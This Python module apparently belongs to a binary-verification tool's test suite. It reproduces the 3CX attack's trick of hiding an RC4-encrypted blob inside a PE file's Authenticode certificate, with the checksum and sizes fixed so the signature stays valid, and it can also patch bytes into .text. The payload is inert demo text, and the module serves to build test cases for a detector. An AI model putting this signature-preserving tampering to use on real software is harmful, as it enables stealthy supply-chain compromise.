"""The 3CX-style tampering, reproduced on test files (demo data, not malware).

* ``inject_signature_padding``: what the attackers did to ``d3dcompiler_47.dll``. An
  RC4-encrypted blob that starts with the marker ``FE ED FA CE`` is appended *inside* the
  last WIN_CERTIFICATE, after the PKCS#7 DER; ``dwLength``, the security directory size
  and the PE checksum are fixed up, so the Authenticode digest (which skips the certificate
  table) still matches and Windows' default check (and ``osslsigncode verify``) still calls
  the signature valid (CVE-2013-3900).
* ``patch_code``: overwrite bytes inside ``.text`` (the loader 3CX's attackers added to
  ``ffmpeg.dll``), used when the PE writer cannot add code itself.

The PE header walk here is bounded and raises ``MalformedInputError`` on anything odd; it
is a tampering tool for our own test files, not biv's parser.
"""

from __future__ import annotations

import os
import struct
from pathlib import Path

from verifier.errors import MalformedInputError
from verifier.record import record

MARKER = b"\xfe\xed\xfa\xce"
# The RC4 key found in the real 3CX d3dcompiler_47.dll payload.
DEMO_RC4_KEY = b"3jB(2bsG#@c7"
DEMO_PLAINTEXT = (
    b"biv demo payload: stands for the shellcode hidden in 3CX's d3dcompiler_47.dll. "
    b"It would fetch an icon file from GitHub and decode the C2 address from its tail.\x00"
) * 8

StrPath = str | os.PathLike[str]


def rc4(key: bytes, data: bytes) -> bytes:
    """Plain RC4 (KSA + PRGA). Demo data only."""
    if not key:
        raise ValueError("empty RC4 key")
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 0xFF
        s[i], s[j] = s[j], s[i]
    out = bytearray(len(data))
    i = j = 0
    for n, b in enumerate(data):
        i = (i + 1) & 0xFF
        j = (j + s[i]) & 0xFF
        s[i], s[j] = s[j], s[i]
        out[n] = b ^ s[(s[i] + s[j]) & 0xFF]
    return bytes(out)


def make_payload(plaintext: bytes = DEMO_PLAINTEXT, key: bytes = DEMO_RC4_KEY) -> bytes:
    """``FE ED FA CE`` followed by the RC4-encrypted plaintext (the 3CX layout)."""
    return MARKER + rc4(key, plaintext)


# --- bounded PE header walk ----------------------------------------------------------------


@record
class PEHeaders:
    pe_offset: int
    checksum_offset: int
    security_dir_offset: int  # file offset of the IMAGE_DATA_DIRECTORY[4] entry
    security_offset: int  # certificate table file offset (0 when unsigned)
    security_size: int
    sections: tuple[tuple[str, int, int, int, int], ...]  # name, vaddr, vsize, raw_ptr, raw_size


def _u16(b: bytes, off: int) -> int:
    if off < 0 or off + 2 > len(b):
        raise MalformedInputError(f"PE header read past the end at {off:#x}")
    v: int = struct.unpack_from("<H", b, off)[0]
    return v


def _u32(b: bytes, off: int) -> int:
    if off < 0 or off + 4 > len(b):
        raise MalformedInputError(f"PE header read past the end at {off:#x}")
    v: int = struct.unpack_from("<I", b, off)[0]
    return v


def read_headers(data: bytes) -> PEHeaders:
    if data[:2] != b"MZ":
        raise MalformedInputError("not a PE file (no MZ)")
    pe = _u32(data, 0x3C)
    if pe > 1 << 20 or data[pe : pe + 4] != b"PE\0\0":
        raise MalformedInputError("not a PE file (no PE signature)")
    coff = pe + 4
    nsec = _u16(data, coff + 2)
    opt_size = _u16(data, coff + 16)
    opt = coff + 20
    magic = _u16(data, opt)
    if magic == 0x10B:
        dd = opt + 96
    elif magic == 0x20B:
        dd = opt + 112
    else:
        raise MalformedInputError(f"unknown optional header magic {magic:#x}")
    ndirs = _u32(data, dd - 4)
    if ndirs < 5:
        raise MalformedInputError("no security data directory")
    sec_entry = dd + 4 * 8
    sec_off = _u32(data, sec_entry)
    sec_size = _u32(data, sec_entry + 4)
    sect_tab = opt + opt_size
    if nsec > 96:
        raise MalformedInputError(f"too many sections ({nsec})")
    sections = []
    for i in range(nsec):
        s = sect_tab + 40 * i
        if s + 40 > len(data):
            raise MalformedInputError("section table truncated")
        name = data[s : s + 8].rstrip(b"\0").decode("ascii", "replace")
        vsize, vaddr, raw_size, raw_ptr = struct.unpack_from("<IIII", data, s + 8)
        sections.append((name, vaddr, vsize, raw_ptr, raw_size))
    return PEHeaders(pe, opt + 64, sec_entry, sec_off, sec_size, tuple(sections))


def pe_checksum(data: bytes | bytearray, checksum_offset: int) -> int:
    """The PE checksum as imagehlp computes it (checksum field counted as zero)."""
    buf = bytearray(data)
    buf[checksum_offset : checksum_offset + 4] = b"\0\0\0\0"
    if len(buf) % 2:
        buf.append(0)
    total = sum(memoryview(buf).cast("H"))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (total + len(data)) & 0xFFFFFFFF


def _der_length(data: bytes, off: int, limit: int) -> int:
    """Total length (header + content) of the DER element at ``off``."""
    if off + 2 > limit or data[off] != 0x30:
        raise MalformedInputError("WIN_CERTIFICATE does not hold a DER SEQUENCE")
    first = data[off + 1]
    if first < 0x80:
        total = 2 + first
    else:
        n = first & 0x7F
        if n == 0 or n > 4 or off + 2 + n > limit:
            raise MalformedInputError("bad DER length in WIN_CERTIFICATE")
        total = 2 + n + int.from_bytes(data[off + 2 : off + 2 + n], "big")
    if off + total > limit:
        raise MalformedInputError("PKCS#7 DER runs past its WIN_CERTIFICATE")
    return total


def _align8(n: int) -> int:
    return (n + 7) & ~7


@record
class PaddingResult:
    path: str
    entry_offset: int  # file offset of the WIN_CERTIFICATE that now carries the payload
    der_length: int  # length of the PKCS#7 DER inside it
    payload_offset: int  # file offset of the first payload byte (the FE ED FA CE marker)
    payload_length: int
    old_table_size: int
    new_table_size: int
    checksum: int


def inject_signature_padding(
    pe_path: StrPath, payload: bytes | None = None, out_path: StrPath | None = None
) -> PaddingResult:
    """Hide ``payload`` after the PKCS#7 DER inside the last WIN_CERTIFICATE.

    The file must be signed with its certificate table at the end (what signers produce).
    ``dwLength`` and the security directory size grow to cover the payload (rounded up to
    8 bytes with zeros), and the PE checksum is recomputed. Writes ``out_path`` (default:
    in place).
    """
    src = Path(pe_path)
    data = src.read_bytes()
    payload = make_payload() if payload is None else payload
    h = read_headers(data)
    if h.security_offset == 0 or h.security_size == 0:
        raise MalformedInputError("file is not signed (empty security directory)", where=str(src))
    table_end = h.security_offset + h.security_size
    if table_end != len(data):
        raise MalformedInputError("certificate table is not at the end of the file", where=str(src))
    # walk the entries to the last one
    off = h.security_offset
    last = -1
    count = 0
    while off + 8 <= table_end:
        length = _u32(data, off)
        if length < 8 or off + length > table_end:
            raise MalformedInputError(f"bad WIN_CERTIFICATE length at {off:#x}", where=str(src))
        last = off
        count += 1
        if count > 64:
            raise MalformedInputError("too many WIN_CERTIFICATE entries", where=str(src))
        off += _align8(length)
    if last < 0:
        raise MalformedInputError("empty certificate table", where=str(src))
    old_len = _u32(data, last)
    der_len = _der_length(data, last + 8, last + old_len)
    new_len = 8 + der_len + len(payload)
    new_entry = bytearray(data[last : last + 8 + der_len])
    new_entry += payload
    new_entry += b"\0" * (_align8(new_len) - new_len)
    struct.pack_into("<I", new_entry, 0, _align8(new_len))
    out = bytearray(data[:last])
    out += new_entry
    new_table = len(out) - h.security_offset
    struct.pack_into("<I", out, h.security_dir_offset + 4, new_table)
    csum = pe_checksum(out, h.checksum_offset)
    struct.pack_into("<I", out, h.checksum_offset, csum)
    dest = Path(out_path) if out_path is not None else src
    dest.write_bytes(bytes(out))
    return PaddingResult(
        path=str(dest),
        entry_offset=last,
        der_length=der_len,
        payload_offset=last + 8 + der_len,
        payload_length=len(payload),
        old_table_size=h.security_size,
        new_table_size=new_table,
        checksum=csum,
    )


def patch_code(
    pe_path: StrPath,
    code: bytes,
    out_path: StrPath | None = None,
    *,
    section: str = ".text",
    at: int | None = None,
) -> int:
    """Overwrite ``code`` into ``section``'s raw data (default: its last bytes) and fix the
    checksum. Returns the file offset written. The file should be unsigned (sign after)."""
    src = Path(pe_path)
    data = bytearray(src.read_bytes())
    h = read_headers(bytes(data))
    for name, _va, _vs, raw_ptr, raw_size in h.sections:
        if name == section:
            if len(code) > raw_size:
                raise MalformedInputError(f"{len(code)} bytes do not fit in {section}")
            pos = raw_ptr + (raw_size - len(code) if at is None else at)
            if pos < raw_ptr or pos + len(code) > raw_ptr + raw_size or pos + len(code) > len(data):
                raise MalformedInputError(f"patch outside {section}")
            data[pos : pos + len(code)] = code
            struct.pack_into("<I", data, h.checksum_offset, pe_checksum(data, h.checksum_offset))
            (Path(out_path) if out_path is not None else src).write_bytes(bytes(data))
            return pos
    raise MalformedInputError(f"no {section} section", where=str(src))
